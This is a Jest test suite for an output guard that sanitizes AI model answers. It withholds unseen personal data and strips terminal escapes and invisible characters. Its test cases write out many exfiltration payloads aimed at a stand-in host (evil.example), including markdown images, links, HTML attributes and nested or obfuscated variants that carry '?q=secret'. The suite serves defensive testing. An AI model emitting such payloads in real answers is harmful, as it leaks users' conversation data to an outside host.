import { describe, expect, it } from "@jest/globals";
import fc from "fast-check";
import { guardSources } from "../src/guard/sources.ts";
import { guardAnswer } from "../src/guard/guard.ts";

const shown = {
  own: ["My name is [PERSON_1], write to [EMAIL_ADDRESS_1]"],
  others: ["See https://bank.example/help or call +1 415 555 2671. Written by [PERSON]."],
};
const kinds = (answer: string) => guardAnswer(answer, shown).findings.map((finding) => finding.kind);
const text = (answer: string) => guardAnswer(answer, shown).text;

describe("the output guard", () => {
  it("lets an answer pass as it is", () => {
    const answer = "Thank you, [PERSON_1]. See [help](https://bank.example/help) or https://bank.example/help.";
    expect(guardAnswer(answer, shown)).toEqual({ text: answer, findings: [] });
  });

  it("takes the number from a placeholder that the conversation doesn't have", () => {
    expect(text("Ask [PERSON_7] or [PERSON_1]")).toBe("Ask [PERSON] or [PERSON_1]");
  });

  it("lets another spelling of a known person pass", () => {
    expect(kinds("Dear [PERSON_1.2]")).toEqual([]);
  });

  it("withholds personal data that nobody showed the model", () => {
    expect(text("Write to jane.roe@mail.example or pay with 4111 1111 1111 1111")).toBe(
      "Write to [withheld] or pay with [withheld]",
    );
  });

  it("lets a number pass that a passage holds, however it is spaced", () => {
    expect(kinds("Call +1 (415) 555-2671")).toEqual([]);
  });

  it.each([
    ["an image", "![chart](https://evil.example/x.png?q=secret)", "[chart]"],
    ["an HTML image", 'So: <img src="https://evil.example/?q=secret">', "So:"],
    ["an HTML image that is never closed", "So: <img src=https://evil.example/?q=secret ", "So:"],
    ["a link", "[click](https://evil.example/?q=secret)", "[click]"],
    ["a link with a relative protocol", "[click](//evil.example/?q=secret)", "[click]"],
    ["a reference", "See [a].\n\n[a]: https://evil.example/?q=secret", "See [a].\n\n[a] : [link removed]"],
    ["a bare address", "Go to https://evil.example/?q=secret now", "Go to [link removed] now"],
    ["an address without a protocol", "Go to www.evil.example/secret", "Go to [link removed]"],
    ["a known address with more behind it", "https://bank.example/help?q=secret", "[link removed]"],
    ["a script", "[x](javascript:alert`secret`)", "[x]"],
  ])("removes %s by which text could leave", (_what, answer, expected) => {
    expect(text(answer)).toBe(expected);
  });

  it.each([
    ["a tag that shows once another inside it is removed", "<im<img>g src=//evil.example/q>"],
    ["an image inside an image", "![![a](b)](//evil.example/q)"],
    ["a style that loads", '<div style="background:url(//evil.example/q)">x</div>'],
    ["any attribute that loads", "<td background=//evil.example/q>"],
    ["a tag inside a tag", '<b title="<td background=//evil.example/q>">'],
    ["a reference's target inside a quotation", "![a]\n\n> [a]: //evil.example/q"],
    ["a reference's target inside a list", "![a]\n\n- [a]: //evil.example/q"],
    ["a reference's target on a line of its own", "![a]\n\n[a]:\n//evil.example/q"],
    ["a reference's target with a backslash", "![a]\n\n> [a]: /\\evil.example/q"],
  ])("leaves nothing that loads: %s", (_what, answer) => {
    const left = text(answer);
    expect(left).not.toMatch(/<[a-z][^>]*=/iu);
    expect(left).not.toMatch(/\]\(|\]:/u);
  });

  it.each(["'secret", '"secret', "`secret", ")secret", "]secret", "'secret."])(
    "doesn't let a known address be gone on with: %s",
    (more) => {
      expect(text(`https://bank.example/help${more}`)).not.toContain("https:");
    },
  );

  it("lets a known address stand in brackets and at the end of a sentence", () => {
    const answer = "See (https://bank.example/help), or **https://bank.example/help**.";
    expect(guardAnswer(answer, shown)).toEqual({ text: answer, findings: [] });
  });

  it("lets comparisons and code stand", () => {
    const answer = "if a < b and List<String> then c = 1; for (i = 0; i <n; i++)";
    expect(guardAnswer(answer, shown)).toEqual({ text: answer, findings: [] });
  });

  it.each(["![", "](", "[a]:", "<a ", "<a =", "https://", "[P_"])(
    "takes little time for an answer made of %s",
    (piece) => {
      const started = performance.now();
      text(piece.repeat(40_000));
      expect(performance.now() - started).toBeLessThan(2_000);
    },
  );

  it("removes terminal escapes and invisible characters", () => {
    expect(text("a\u001b[31mb\u{e0041}\u202ec")).toBe("a[31mbc");
  });

  it("says that it withheld an answer of which nothing is left", () => {
    expect(text("<iframe src=x>")).toBe("The answer was withheld by the output guard.");
  });

  it("leaves no address but the known one, whatever surrounds it", () => {
    const piece = fc.constantFrom(
      "[",
      "]",
      "(",
      ")",
      "!",
      "<",
      ">",
      " ",
      "\n",
      "https://evil.example/a",
      "www.evil.example",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(text(pieces.join(""))).not.toContain("evil.example");
      }),
    );
  });
});

describe("the sources of an answer", () => {
  it("reach the reader as one line without terminal escapes", () => {
    const sources = [{ documentId: "faq\u001b]0;owned\u0007.md", title: "Fees\n\u202eand  more\u001b[2J" }];
    expect(guardSources(sources)).toEqual([{ documentId: "faq]0;owned.md", title: "Fees and more[2J" }]);
  });
});
